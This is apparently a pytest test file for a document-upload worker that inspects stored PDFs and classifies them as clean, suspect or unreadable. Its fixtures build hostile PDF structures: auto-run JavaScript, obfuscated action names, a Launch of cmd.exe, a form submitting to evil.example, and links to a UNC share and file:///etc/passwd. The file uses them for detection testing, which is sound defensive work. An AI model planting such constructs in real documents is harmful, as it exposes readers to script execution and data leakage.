"""The worker inspects stored files and finds every dangerous feature of a PDF, wherever it is."""

import io
import os
from typing import Any

import pytest

from audit_app.models import AuditLog
from tests.helpers import SOAK, Visitor, events, pdf, store_root, uploaded
from tests.uploads_app.inspection.hostile_pdfs import (
    PAGE,
    assembled,
    encrypted,
    packed,
    stream,
    with_attachment,
    written,
)
from tests.uploads_app.inspection_support import CATALOG, CLEAN, PAGES, inspected, verdict
from tests.uploads_app.samples import sample
from uploads_app.inspection.pdf import judge
from uploads_app.inspection.sandbox import inspect_content
from uploads_app.models import Inspection, UploadedFile, UploadStatus
from uploads_app.tasks import inspect_uploads

SCRIPT = "/S /JavaScript /JS (app.alert(1))"

SUSPECT = {
    "a script on open": (written(f"/OpenAction << {SCRIPT} >>"), "javascript"),
    "a script by reference": (
        written("/OpenAction 4 0 R", "", "<< /S 5 0 R /JS 6 0 R >>", "/JavaScript", "(x)"),
        "javascript",
    ),
    "a script under a hidden name": (
        written("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "javascript",
    ),
    "a script in the tree of names": (
        written(f"/Names << /JavaScript << /Names [(a) << {SCRIPT} >>] >> >>"), "javascript",
    ),
    "a script when the document closes": (written(f"/AA << /WC << {SCRIPT} >> >>"), "javascript"),
    "a script when a page opens": (written("", f"/AA << /O << {SCRIPT} >> >>"), "javascript"),
    "a script on an annotation": (
        written("", f"/Annots [<< /Subtype /Link /A << {SCRIPT} >> >>]"), "javascript",
    ),
    "a script in a field": (
        written(f"/AcroForm << /Fields [<< /FT /Tx /AA << /K << {SCRIPT} >> >> >>] >>"),
        "javascript",
    ),
    "a script after another action": (
        written(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< {SCRIPT} >>] >>"),
        "javascript",
    ),
    "a script that nothing leads to": (written("", "", f"[[ << {SCRIPT} >> ]]"), "javascript"),
    "a script in an object stream": (
        packed({1: CATALOG, 2: PAGES, 3: PAGE, 4: f"<< {SCRIPT} >>"}), "javascript",
    ),
    "a script in a stream's own entries": (
        written("", "", stream(b"x", f"/AA << {SCRIPT} >>")), "javascript",
    ),
    "a rendition with a script": (
        written("/OpenAction << /S /Rendition /JS (x) >>"), "javascript, multimedia",
    ),
    "a program": (written("/OpenAction << /S /Launch /F (cmd.exe) >>"), "opens_files"),
    "another document": (
        written("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a) >>"), "opens_files",
    ),
    "a document within": (
        written("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>"), "opens_files",
    ),
    "a form that is sent": (
        written("/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), "sends_data",
    ),
    "a form that is filled": (
        written("/OpenAction << /S /ImportData /F (a.fdf) >>"), "sends_data",
    ),
    "an attachment": (with_attachment("a.txt", b"hello"), "embedded_file"),
    "an attachment on a page": (
        written("", "/Annots [<< /Subtype /FileAttachment /FS << /F (a) /EF << >> >> >>]"),
        "embedded_file",
    ),
    "a portfolio": (written("/Collection << /View /D >>"), "embedded_file"),
    "an embedded file without a name": (
        written("", "", stream(b"x", "/Type /EmbeddedFile")), "embedded_file",
    ),
    "rich media": (written("", "/Annots [<< /Subtype /RichMedia >>]"), "multimedia"),
    "3D": (written("", "/Annots [<< /Subtype /3D >>]"), "multimedia"),
    "a film": (written("", "/Annots [<< /Subtype /Screen >>]"), "multimedia"),
    "a form that builds itself": (
        written("/AcroForm << /XFA 4 0 R >>", "", stream(b"<xdp/>")), "dynamic_form",
    ),
    "a link to a file": (
        written("", "/Annots [<< /A << /S /URI /URI (file:///etc/passwd) >> >>]"), "odd_link",
    ),
    "a link that is a script": (
        written("", "/Annots [<< /A << /S /URI /URI ( JavaScript:alert\\(1\\)) >> >>]"),
        "odd_link",
    ),
    "a link to a share": (
        written("", "/Annots [<< /A << /S /URI /URI <5c5c6576696c5c61> >> >>]"), "odd_link",
    ),
    "a password": (encrypted("secret"), "encrypted"),
    "an empty password": (encrypted(""), "encrypted"),
    "a cipher that pypdf cannot read": (
        written(
            "", "", "<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <00> /U <00> /OE <00>"
            " /UE <00> /Perms <00> /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF >>",
            trailer="/Encrypt 4 0 R /ID [<00> <00>]",
        ),
        "encrypted",
    ),
    "everything at once": (
        written(f"/OpenAction << {SCRIPT} >> /AcroForm << /XFA (x) >> /Collection << >>"),
        "dynamic_form, embedded_file, javascript",
    ),
}  # fmt: skip
MALFORMED = {
    "only a header": b"%PDF-1.7\n",
    "a page of HTML": b"%PDF-1.7\n<script>alert(1)</script>",
    "half a file": pdf()[: len(pdf()) // 2],
    "no catalog": assembled(["<< >>"]),
    "no page": assembled([CATALOG, "<< /Type /Pages /Kids [] /Count 0 >>"]),
    "an entry that is there twice": written("/A 1 /A 2"),
    "an object that is cut": written("", "", "<< /A (never closed >>"),
}


def verdict_of(body: bytes) -> tuple[str, str]:
    """Return the verdict of the inspection program; with SOAK it runs as in the worker."""
    if SOAK:
        with io.FileIO(os.memfd_create("pdf"), "w+") as content:
            content.write(body)
            found = inspect_content(content)
            return found.verdict, ", ".join(found.suspicions)
    answer = judge(body)
    return answer["verdict"], ", ".join(answer["suspicions"])


@pytest.mark.parametrize("body", CLEAN.values(), ids=CLEAN)
def test_file_without_dangerous_features_is_clean(body: bytes) -> None:
    assert verdict_of(body) == ("clean", "")


@pytest.mark.parametrize(("body", "suspicions"), SUSPECT.values(), ids=SUSPECT)
def test_t40_dangerous_features_are_found_anywhere(body: bytes, suspicions: str) -> None:
    assert verdict_of(body) == ("suspect", suspicions)


@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED)
def test_damaged_file_is_unreadable(body: bytes) -> None:
    assert verdict_of(body) == ("unreadable", "malformed")


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (CLEAN["objects in a stream"], ("clean", "")),
        (SUSPECT["an attachment"][0], ("suspect", "embedded_file")),
        (SUSPECT["an empty password"][0], ("suspect", "encrypted")),
        (written("/Lang (\xfe\xff\x00d\x00e)"), ("clean", "")),
        (MALFORMED["half a file"], ("unreadable", "malformed")),
    ],
    ids=["object stream", "attachment", "password", "UTF-16", "half"],
)
def test_worker_reaches_the_same_verdicts(
    visitor: Visitor, body: bytes, expected: tuple[str, str]
) -> None:
    """The program loads all modules before it gives up its permissions."""
    assert verdict(inspected(visitor, body)) == expected


def test_other_types_are_not_inspected(visitor: Visitor, settings: Any) -> None:
    settings.UPLOAD_TYPES = ["pdf", "png"]
    upload = uploaded(visitor, sample("png"), "a.png")
    (store_root() / upload.key).unlink()  # the object is never opened
    assert inspect_uploads() == 1
    upload.refresh_from_db()
    assert verdict(upload) == ("unsupported", "")


@pytest.mark.both
def test_verdict_is_saved_and_recorded(visitor: Visitor) -> None:
    body, _ = SUSPECT["everything at once"]
    upload = inspected(visitor, body)

    assert upload.inspected_at is not None
    assert upload.status == UploadStatus.STORED
    log = AuditLog.objects.get(event_type="upload.inspected")
    assert (str(log.session_uuid), log.target) == (visitor.uuid, f"upload:{upload.pk}")
    assert log.actor == "system"
    assert log.details == {
        "verdict": "suspect",
        "suspicions": "dynamic_form, embedded_file, javascript",
    }


def test_file_is_inspected_once(visitor: Visitor) -> None:
    inspected(visitor, pdf())
    rows = list(UploadedFile.objects.values())
    assert inspect_uploads() == 0
    assert list(UploadedFile.objects.values()) == rows
    assert events().count("upload.inspected") == 1


def test_files_of_a_session_are_inspected_oldest_first(
    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, second, third = (uploaded(visitor, pdf(str(number))) for number in range(3))
    monkeypatch.setattr("uploads_app.tasks.INSPECT_BATCH", 2)
    monkeypatch.setattr("uploads_app.services.inspection_queue.RELOAD_SECONDS", 1000)

    assert inspect_uploads() == 2
    assert list(UploadedFile.objects.uninspected()) == [third]
    assert inspect_uploads() == 1
    for upload in (first, second, third):
        upload.refresh_from_db()
        assert upload.inspection == Inspection.CLEAN


def test_files_beyond_the_time_limit_wait_for_the_next_run(
    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    uploaded(visitor)
    with monkeypatch.context() as patch:
        patch.setattr("uploads_app.tasks.INSPECT_SECONDS", -1)
        assert inspect_uploads() == 0
    assert "upload.inspected" not in events()
    assert inspect_uploads() == 1


def test_storage_failure_gives_no_verdict(visitor: Visitor) -> None:
    upload, other = uploaded(visitor), uploaded(visitor, pdf("other"))
    path = store_root() / upload.key
    trashed = path.rename(path.with_suffix(".aside"))
    path.mkdir()  # a folder: even root cannot open it as a file

    assert inspect_uploads() == 1
    assert list(UploadedFile.objects.uninspected()) == [upload]
    other.refresh_from_db()
    assert other.inspection == Inspection.CLEAN

    path.rmdir()
    trashed.rename(path)
    assert inspect_uploads() == 1
    upload.refresh_from_db()
    assert verdict(upload) == ("clean", "")


def test_missing_object_is_left_to_the_cleanup(visitor: Visitor) -> None:
    upload = uploaded(visitor)
    (store_root() / upload.key).unlink()
    assert inspect_uploads() == 0
    assert UploadedFile.objects.get(pk=upload.pk).inspection == Inspection.WAITING
    assert "upload.inspected" not in events()


def test_inspection_that_cannot_start_gives_no_verdict(
    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    uploaded(visitor)
    with monkeypatch.context() as patch:
        patch.setattr("uploads_app.inspection.sandbox.sys.executable", "/no/such/python")
        assert inspect_uploads() == 0
    with monkeypatch.context() as patch:
        patch.setattr(
            "uploads_app.inspection.sandbox.MEMORY_BYTES", "plenty"
        )  # it exits with NOT_BEGUN
        assert inspect_uploads() == 0
    assert "upload.inspected" not in events()
    assert inspect_uploads() == 1
